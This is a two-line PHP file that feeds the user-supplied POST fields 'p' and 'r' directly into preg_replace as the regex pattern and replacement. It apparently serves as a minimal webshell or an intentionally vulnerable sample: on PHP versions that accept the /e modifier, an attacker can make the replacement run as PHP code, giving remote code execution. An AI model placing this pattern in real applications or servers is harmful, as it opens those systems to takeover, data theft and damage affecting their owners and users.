<?php
echo preg_replace($_POST['p'], $_POST['r'], 'subject');
